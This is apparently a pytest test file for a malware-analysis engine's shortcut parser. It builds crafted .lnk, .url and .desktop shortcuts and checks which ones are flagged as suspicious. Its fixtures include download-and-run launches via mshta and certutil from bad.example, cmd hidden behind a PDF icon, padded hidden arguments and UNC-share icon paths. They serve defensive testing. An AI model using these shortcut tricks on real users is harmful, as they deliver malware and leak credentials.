import struct
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from sample_analysis.engines.programs import shortcuts

Examine = Callable[..., Any]


def lnk(target: str, arguments: str = "", icon: str = "", shown: int = 1, behind: bytes = b"") -> bytes:
    flags = 0x02 | 0x80 | (0x20 if arguments else 0) | (0x40 if icon else 0)
    head = b"L\x00\x00\x00" + bytes.fromhex("0114020000000000c000000000000046") + struct.pack("<I", flags)
    head += b"\x00" * (0x3C - len(head)) + struct.pack("<I", shown)
    head += b"\x00" * (76 - len(head))
    path = target.encode("cp1252") + b"\x00"
    info = struct.pack("<7I", 28 + len(path) + 1, 28, 1, 0, 28, 0, 28 + len(path)) + path + b"\x00"
    strings = b"".join(struct.pack("<H", len(text)) + text.encode("utf-16-le") for text in (arguments, icon) if text)
    return head + info + strings + b"\x00\x00\x00\x00" + behind


def rules(report: Any) -> set[str]:
    return {reason.rule for reason in report.root.reasons}


def test_a_shortcut_tells_what_it_starts(examine: Examine) -> None:
    report = examine(lnk("C:\\Program Files\\Editor\\editor.exe", "C:\\a.txt"), "a.lnk")
    [reason] = report.root.reasons
    assert (reason.rule, reason.where) == ("shortcut-target", "C:\\Program Files\\Editor\\editor.exe C:\\a.txt")
    assert report.root.verdict == "unknown"


@pytest.mark.parametrize(
    ("data", "rule"),
    [
        (lnk("C:\\Windows\\System32\\cmd.exe", "/c start calc", "C:\\x\\a.pdf"), "shortcut-disguised"),
        (lnk("C:\\Windows\\System32\\mshta.exe", "https://bad.example/a.hta"), "suspicious-command"),
        (lnk("C:\\Windows\\System32\\wscript.exe", "a.vbs", shown=7), "shortcut-disguised"),
        (lnk("C:\\a.exe", " " * 260 + "/c calc"), "shortcut-hides-arguments"),
        (lnk("C:\\a.exe", behind=b"x" * 10_000), "shortcut-carries-data"),
        (lnk("\\\\192.0.2.1\\share\\a.exe"), "share-on-address"),
        (lnk("C:\\a.exe", icon="\\\\192.0.2.1\\share\\a.ico"), "share-on-address"),
    ],
)
def test_a_shortcut_that_hides_what_it_starts_is_suspicious(examine: Examine, data: bytes, rule: str) -> None:
    report = examine(data, "a.lnk")
    assert rule in rules(report)
    assert report.root.verdict == "suspicious"


def test_a_cut_off_shortcut_ends(examine: Examine) -> None:
    data = lnk("C:\\Windows\\System32\\cmd.exe", "/c start calc", "C:\\x\\a.pdf")
    for end in range(8, len(data), 3):
        assert examine(data[:end], "a.lnk").limits() == ({"damaged"} if end < len(data) - 4 else set())
    assert "starts-script" in rules(examine(data[:-30], "a.lnk"))


def test_a_shortcut_without_a_path_is_read_from_its_list_or_its_variable() -> None:
    name = b"\x32\x00" + b"\x00" * 10 + b"run.exe\x00"
    listed = struct.pack("<H", len(name) + 2) + name + b"\x00\x00"
    head = lnk("x")[:0x14] + struct.pack("<I", 0x01) + lnk("x")[0x18:76]
    assert shortcuts.parse(head + struct.pack("<H", len(listed)) + listed).target == "run.exe"
    block = struct.pack("<II", 788, 0xA0000001) + b"\x00" * 260 + "%ComSpec%".encode("utf-16-le").ljust(520, b"\x00")
    none = lnk("x")[:0x14] + struct.pack("<I", 0x80) + lnk("x")[0x18:76]
    assert shortcuts.parse(none + block).target == "%ComSpec%"


@pytest.mark.parametrize(
    ("text", "rule", "verdict"),
    [
        ("[InternetShortcut]\r\nURL=https://good.example/\r\n", "shortcut-target", "unknown"),
        ("[InternetShortcut]\r\nURL=file://bad.example@80/share/a.exe\r\n", "shortcut-to-program", "suspicious"),
        ("[InternetShortcut]\r\nURL=file:///C:/Tools/a.exe\r\n", "shortcut-target", "unknown"),
        (
            "[InternetShortcut]\r\nURL=https://a.example\r\nIconFile=\\\\192.0.2.1\\a\\b.ico\r\n",
            "share-on-address",
            "suspicious",
        ),
        (
            "[InternetShortcut]\r\nURL=mhtml:https://bad.example/a!x-usc:https://bad.example/a\r\n",
            "target-runs-program",
            "suspicious",
        ),
        ("[Desktop Entry]\nExec=certutil -urlcache -f https://bad.example/a a\n", "suspicious-command", "suspicious"),
        ("[Desktop Entry]\nExec=/usr/bin/editor %F\n", "shortcut-target", "unknown"),
    ],
)
def test_shortcuts_in_text_tell_where_they_lead(examine: Examine, text: str, rule: str, verdict: str) -> None:
    report = examine(text.encode(), "a.url" if "Internet" in text else "a.desktop")
    assert rule in rules(report)
    assert report.root.verdict == verdict


def test_the_shortcut_of_the_corpora_starts_the_calculator_and_is_ordinary(corpora: Path, examine: Examine) -> None:
    report = examine((corpora / "files-strelka/test.lnk").read_bytes(), "test.lnk")
    [reason] = report.root.reasons
    assert (report.root.verdict, reason.where) == ("unknown", "C:\\Windows\\System32\\calc.exe -testCommands")
